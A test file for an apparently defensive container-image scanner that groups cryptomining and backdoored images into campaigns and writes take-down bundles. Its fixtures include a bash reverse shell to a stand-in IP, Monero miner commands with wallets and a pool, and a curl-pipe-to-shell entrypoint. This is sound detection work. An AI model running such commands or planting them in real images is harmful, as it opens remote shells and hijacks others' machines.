import { mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Ajv2020 } from 'ajv/dist/2020.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CAMPAIGN_WALLET, miningImages, type NamedImage, openImages } from '../demo/campaign.ts';
import { honestImages } from '../demo/honest.ts';
import type { Bundle } from '../src/report/campaign/bundle-schema.ts';
import type { CampaignReport } from '../src/report/campaign/json-schema.ts';
import { moneroAddress } from '../testkit/addresses.ts';
import { builtCli, startCli } from '../testkit/built-cli.ts';
import { buildImage, type ImageSpec } from '../testkit/image.ts';
import { dockerArchive, writeOciLayout } from '../testkit/store.ts';
import { requireTool } from '../testkit/tools.ts';

let work = '';
let main = '';

beforeAll(async () => {
  work = await mkdtemp(join(tmpdir(), 'clearpull-campaign-'));
  main = await builtCli();
  await layoutOf('demo', [...miningImages(), ...openImages(), ...honestImages()]);
  const { code, out } = await run('check', '-f', 'json', 'oci:demo', '--fail-on', 'never');
  expect(code).toBe(0);
  await writeFile(join(work, 'all.json'), out);
}, 180_000);

afterAll(async () => {
  await rm(work, { recursive: true, force: true });
});

async function run(...args: readonly string[]) {
  return runWith(undefined, ...args);
}

async function runWith(stdin: string | undefined, ...args: readonly string[]) {
  return startCli(
    main,
    [...args, ...(args.includes('--cache-dir') ? [] : ['--cache-dir', join(work, 'cache')])],
    {
      env: { HOME: work, TMPDIR: work },
      cwd: work,
      ...(stdin === undefined ? {} : { stdin }),
    },
  ).done;
}

async function layoutOf(name: string, images: readonly NamedImage[]): Promise<string> {
  await writeOciLayout(
    join(work, name),
    images.map((one) => ({ name: one.name, image: buildImage(one.spec) })),
  );
  return `oci:./${name}`;
}

async function report(...args: readonly string[]): Promise<CampaignReport> {
  const { out, code, err } = await run('campaign', '-f', 'json', ...args);
  expect([code, err]).toEqual([0, '']);
  return JSON.parse(out) as CampaignReport;
}

/** The names that images have in their layout, campaign by campaign. */
function namesOf({ campaigns }: CampaignReport): readonly (readonly string[])[] {
  return campaigns.map(({ members }) =>
    members.map(({ references }) => (references[0] ?? '').replace(/^oci:(?:\.\/)?[^:]*:/, '')).sort(),
  );
}

async function valid(schema: string, value: unknown): Promise<void> {
  const file = new URL(`../schema/${schema}`, import.meta.url);
  const ajv = new Ajv2020({ strict: false });
  expect(ajv.validate(JSON.parse(await readFile(file, 'utf8')), value), ajv.errorsText()).toBe(true);
}

describe('the campaign of 2018', () => {
  const mining = miningImages().map(({ name }) => name);
  const open = openImages().map(({ name }) => name);

  it('is one group of seventeen: nine by their wallet, the others by the account of those nine', async () => {
    const found = await report('oci:demo');
    await valid('campaign-1.0.0.json', found);
    expect(namesOf(found)).toEqual([[...mining, ...open].sort()]);
    expect(found).toMatchObject({
      images: 22,
      alone: { allow: 5, review: 0, block: 0 },
      failed: [],
      notes: [],
    });
    const [campaign] = found.campaigns;
    expect(campaign?.hinge).toEqual({
      kind: 'wallet',
      value: CAMPAIGN_WALLET,
      coin: 'monero',
      strength: 'strong',
      images: 9,
    });
    const at = (hinge: boolean) =>
      campaign?.members
        .filter(({ atHinge }) => atHinge === hinge)
        .map(({ repositories }) => `${repositories[0]?.replace('docker.io/', '')}:latest`)
        .sort();
    expect([at(true), at(false)]).toEqual([mining.toSorted(), open.toSorted()]);
    for (const { atHinge, way } of campaign?.members ?? []) {
      expect(way === undefined).toBe(atHinge);
      if (way !== undefined) expect(way).toMatchObject({ kind: 'account', value: 'docker.io/demo2018' });
    }
    // What the others have in common is no tie to the nine, and is told nonetheless.
    const indicators = campaign?.indicators.filter(({ joins }) => joins) ?? [];
    expect(indicators.map(({ kind, value, images }) => [kind, kind === 'host' ? value : '', images])).toEqual(
      [
        ['wallet', '', 9],
        ['host', '203.0.113.18', 5],
        ['file', '', 3],
        ['ssh-key', '', 2],
      ],
    );
    const places = indicators.flatMap(({ seenAt }) => seenAt);
    expect(places).toContainEqual(
      expect.objectContaining({
        path: '/etc/cron.d/backup',
        line: 1,
        layer: expect.stringMatching(/^sha256:/),
      }),
    );
    expect(campaign?.seen).toMatchObject({ first: '2018-02-11T09:20:00Z', source: 'images' });
  });

  it('is the same out of saved reports, one by one, as stream, array and folder, in any order', async () => {
    const direct = await report('oci:demo');
    const all = JSON.parse(await readFile(join(work, 'all.json'), 'utf8')) as {
      schemaVersion: string;
      tool: object;
      images: object[];
    };
    const single = all.images.map((image) => ({
      schemaVersion: all.schemaVersion,
      tool: all.tool,
      ...image,
    }));
    const folder = join(work, 'reports', 'below');
    await mkdir(folder, { recursive: true });
    for (const [index, one] of single.entries())
      await writeFile(join(folder, `${index}.json`), JSON.stringify(one));
    await writeFile(join(work, 'array.json'), JSON.stringify(single.toReversed()));
    const stream = single
      .toReversed()
      .map((one) => JSON.stringify(one, undefined, 2))
      .join('\n');
    const piped = await runWith(stream, 'campaign', '-f', 'json', '-');
    expect([piped.code, piped.err]).toEqual([0, '']);
    expect(JSON.parse(piped.out)).toEqual(direct);
    for (const operands of [['all.json'], ['array.json'], ['reports'], ['array.json', 'oci:demo', 'reports']])
      expect(await report(...operands), operands.join(' ')).toEqual(direct);
  });

  it('is told in 80 columns, and how each image is tied stands at the top', async () => {
    const { out, code, err } = await run('campaign', 'oci:demo');
    expect([code, err]).toEqual([0, '']);
    const lines = out.split('\n');
    expect(Math.max(...lines.map((line) => line.length))).toBeLessThanOrEqual(80);
    expect(lines[0]).toBe('1 campaign: 17 of 22 images belong together; 5 stand alone.');
    const top = lines.slice(0, 10).join('\n');
    expect(top).toMatch(/9 images have the Monero wallet 4/);
    expect(top).toContain('8 images are tied to them by the account docker.io/demo2018');
    expect(top).toContain('of these 5 share the host 203.0.113.18');
    expect(top).toContain('of these 2 share the SSH key SHA256:');
    for (const name of [...mining, ...open]) expect(out).toMatch(new RegExp(`[✖▲] ${name} `));
  });

  it('has a size and earnings where the user gives them', async () => {
    await writeFile(
      join(work, 'pulls.csv'),
      'repository,pulls,first_seen,last_seen\ndemo2018/tomcat,3000000,2017-07-24,2018-05-10\ndemo2018/mysql,2000000,,\n',
    );
    await writeFile(
      join(work, 'paid.json'),
      JSON.stringify([
        {
          wallet: CAMPAIGN_WALLET,
          amount: '300.24',
          date: '2017-08-01',
          value: '45000',
          valueCurrency: 'USD',
        },
        { wallet: CAMPAIGN_WALLET, amount: '244.5', date: '2018-05-10' },
        { wallet: moneroAddress('somebody else'), amount: '1' },
      ]),
    );
    const found = await report('all.json', '--pulls', 'pulls.csv', '--payments', 'paid.json');
    await valid('campaign-1.0.0.json', found);
    expect(found.campaigns[0]).toMatchObject({
      size: { pulls: 5_000_000, repositories: 17, counted: 2 },
      seen: { first: '2017-07-24T00:00:00Z', last: '2018-05-10T00:00:00Z', source: 'file' },
      earned: {
        payments: 2,
        sums: [{ currency: 'XMR', amount: '544.74', payments: 2 }],
        values: [{ currency: 'USD', amount: '45000', payments: 1 }],
      },
    });
    expect(found.notes).toEqual(['Payments to 1 wallet that no group holds are left out.']);
  });

  it('is a graph for Graphviz, with the place on each line', async () => {
    const { out, code } = await run('campaign', '-f', 'dot', 'all.json');
    expect(code).toBe(0);
    expect(out.match(/shape=box/g)).toHaveLength(17);
    expect(out.match(/style=dashed/g)).toHaveLength(17);
    expect(out).toContain('[label="/etc/cron.d/backup:1"]');
  });
});

describe('a take-down bundle', () => {
  it('has digests, layers, paths, lines and defanged addresses, and no path of this machine', async () => {
    const { code, err } = await run('campaign', 'all.json', '--bundle', 'takedown');
    expect(code).toBe(0);
    expect(err).toContain('takedown');
    const names = await readdir(join(work, 'takedown'));
    const texts = new Map<string, string>();
    for (const name of names) texts.set(name, await readFile(join(work, 'takedown', name), 'utf8'));
    const bundle = JSON.parse(texts.get('overview.json') ?? '') as Bundle;
    await valid('bundle-1.0.0.json', bundle);
    const [campaign] = bundle.campaigns;
    expect(names.sort()).toEqual(
      [`${campaign?.id}.md`, 'digests.txt', 'overview.json', 'overview.md'].sort(),
    );
    expect(campaign?.images).toHaveLength(17);
    const cron = campaign?.images.find((image) => image.names.includes('demo2018/crondata:latest'));
    expect(cron?.findings[0]?.evidence[0]).toEqual({
      path: '/var/spool/cron/crontabs/root',
      layer: cron?.layers[0],
      line: 1,
      excerpt: expect.stringContaining('hxxp://203[.]0[.]113[.]18/logo.jpg'),
    });
    expect(texts.get('digests.txt')?.split('\n')).toContain(
      `docker.io/demo2018/crondata@${cron?.digest} ${campaign?.id}`,
    );
    for (const [name, text] of texts) {
      expect(text, name).not.toContain('203.0.113.18');
      expect(text, name).not.toContain('http:/');
      expect(text, name).not.toContain('oci:demo');
      expect(text, name).not.toContain(work);
      if (name.endsWith('.md') || name.endsWith('.txt')) expect(text).toContain('demo2018');
    }
  });

  it('is not written over what is there, unless asked to', async () => {
    await mkdir(join(work, 'full'));
    await writeFile(join(work, 'full', 'mine.txt'), 'mine');
    const no = await run('campaign', 'all.json', '--bundle', 'full');
    expect([no.code, no.out]).toEqual([2, '']);
    expect(no.err).toContain('--overwrite');
    const yes = await run('campaign', 'all.json', '--bundle', 'full', '--overwrite');
    expect(yes.code).toBe(0);
    expect(await readFile(join(work, 'full', 'mine.txt'), 'utf8')).toBe('mine');
    expect(await readdir(join(work, 'full'))).toContain('overview.md');
  });

  it('can be one archive, the same each time', async (context) => {
    requireTool(context, 'tar');
    const first = await run('campaign', 'all.json', '--bundle', 'one.tar');
    const second = await run('campaign', 'all.json', '--bundle', 'two.tar');
    expect([first.code, second.code]).toEqual([0, 0]);
    const bytes = await readFile(join(work, 'one.tar'));
    expect(bytes.equals(await readFile(join(work, 'two.tar')))).toBe(true);
    const list = await startCli(['tar', '-tf', join(work, 'one.tar')], []).done;
    expect(list.out).toContain('takedown/overview.json');
    expect((await run('campaign', 'all.json', '--bundle', 'one.tar')).code).toBe(2);
  });
});

/** The same base for all: a shell and a script that fetches its own setup, as many honest images do. */
const BASE: ImageSpec['steps'] = [
  {
    createdBy: 'ADD rootfs.tar / # buildkit',
    items: [
      { path: 'etc/passwd', data: 'root:x:0:0:root:/root:/bin/sh\n' },
      {
        path: 'entrypoint.sh',
        mode: 0o755,
        data: '#!/bin/sh\nset -e\ncurl -fsSL http://setup.corp.example/agent.sh | sh\nexec "$@"\n',
      },
    ],
  },
];

function app(name: string, own: string, config: ImageSpec['config'] = {}): NamedImage {
  return {
    name,
    spec: {
      steps: [
        ...BASE,
        { createdBy: `COPY ${name} / # buildkit`, items: [{ path: 'srv/app.conf', data: own }] },
      ],
      config: { Entrypoint: ['/entrypoint.sh'], Cmd: ['app'], ...config },
    },
  };
}

const DONATION =
  '48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD';

describe('images of strangers', () => {
  it('do not become a campaign by a public pool, a donation wallet or a base image', async () => {
    const mines = (wallet: string) => ({
      Cmd: ['/bin/sh', '-c', `worker -o stratum+tcp://pool.supportxmr.com:3333 -u ${wallet} -p x -k`],
    });
    const layout = await layoutOf('strangers', [
      app('one/app:1', 'a', mines(moneroAddress('one'))),
      app('two/app:1', 'b', mines(moneroAddress('two'))),
      app('three/app:1', 'c', mines(DONATION)),
      app('four/app:1', 'd', mines(DONATION)),
      app('five/app:1', 'e'),
      app('six/app:1', 'f'),
      app('tool:1', 'g'),
      app('other-tool:1', 'h'),
    ]);
    const found = await report(layout);
    expect(found.campaigns).toEqual([]);
    // They are no trivial cases: each of them is told about by check.
    expect(found.alone).toEqual({ allow: 0, review: 4, block: 4 });
  });

  it('are told apart from those of one hand in the same heap', async () => {
    const own = moneroAddress('one hand');
    const mines = (wallet: string) => ({
      Cmd: ['/bin/sh', '-c', `worker -o stratum+tcp://pool.supportxmr.com:3333 -u ${wallet}.rig1 -p x -k`],
    });
    const layout = await layoutOf('heap', [
      app('one/app:1', 'a', mines(own)),
      app('two/app:1', 'b', mines(own)),
      app('three/app:1', 'c', mines(moneroAddress('another'))),
      app('two/clean:1', 'd', { Entrypoint: ['app'] }),
    ]);
    expect(namesOf(await report(layout))).toEqual([['one/app:1', 'two/app:1']]);
    await writeFile(join(work, 'known.txt'), `# ours\n${own} # the honeypot\n`);
    expect((await report(layout, '--known', 'known.txt')).campaigns).toEqual([]);
  });

  it('join by a host of their own where it is built into images each for itself', async () => {
    const reverse = { Cmd: ['/bin/bash', '-c', 'bash -i >& /dev/tcp/198.51.100.7/443 0>&1'], Entrypoint: [] };
    const layout = await layoutOf('shells', [app('one/app:1', 'a', reverse), app('two/app:1', 'b', reverse)]);
    const found = await report(layout);
    expect(found.campaigns[0]).toMatchObject({ hinge: { kind: 'host', value: '198.51.100.7', images: 2 } });
  });
});

describe('inputs', () => {
  it('that cannot be read are told, and the rest is grouped', async () => {
    const heap = join(work, 'mixed');
    await mkdir(join(heap, 'deep'), { recursive: true });
    const [first, second] = miningImages();
    for (const [name, image] of [
      ['a', first],
      ['deep/b', second],
    ] as const) {
      const tags = [image?.name ?? ''];
      await writeFile(
        join(heap, `${name}.tar`),
        dockerArchive([{ image: buildImage(image?.spec as ImageSpec), tags }]),
      );
    }
    await writeFile(join(heap, 'no.json'), '{"name": "package"}');
    await writeFile(join(heap, 'cut.jsonl'), '{"schemaVersion": "1.0.0", "image": {');
    await writeFile(join(heap, 'broken.tar'), 'no tar');
    await writeFile(join(heap, 'notes.txt'), 'notes');
    const { code, out, err } = await run('campaign', '-f', 'json', 'mixed', 'nowhere.json', './missing.tar');
    expect(code).toBe(3);
    const found = JSON.parse(out) as CampaignReport;
    await valid('campaign-1.0.0.json', found);
    expect(found.campaigns.map(({ images }) => images)).toEqual([2]);
    expect(found.failed.map(({ target }) => target).sort()).toEqual(
      ['./missing.tar', './mixed/broken.tar', 'mixed/cut.jsonl', 'mixed/no.json', 'nowhere.json'].sort(),
    );
    expect(found.notes.join()).toContain('1 file in the folders');
    expect(err).toContain('cut.jsonl ends in the middle');
  });

  it('may be nothing that ties', async () => {
    const { code, out } = await run('campaign', 'oci:demo:honest/nginx:1.27');
    expect([code, out]).toEqual([0, 'No campaign: there is only one image.\n']);
  });

  it('of which one report is damaged are grouped, and the exit code tells of what is missing', async () => {
    const checked = await run('check', '-f', 'json', 'oci:demo:honest/nginx:1.27');
    await writeFile(join(work, 'whole.json'), checked.out);
    await writeFile(join(work, 'damaged.json'), checked.out.slice(0, 1000));
    const { code, out } = await run('campaign', 'whole.json', 'damaged.json');
    expect([code, out]).toEqual([3, expect.stringContaining('there is only one image')]);
    const none = await run('campaign', 'damaged.json');
    expect([none.code, none.out]).toEqual([2, expect.stringContaining('there is no image to group')]);
  });

  it('that make no sense are mistakes in the call', async () => {
    for (const args of [
      ['campaign'],
      ['campaign', 'oci:demo', '--pulls', 'nowhere.csv'],
      ['campaign', 'oci:demo', '--group', 'c000000000000'],
      ['campaign', 'oci:demo', '--smallest', '0'],
      ['campaign', 'oci:demo', '-f', 'sarif'],
    ]) {
      const { code, out } = await run(...args);
      expect([args.join(' '), code, out]).toEqual([args.join(' '), 2, '']);
    }
  });
});
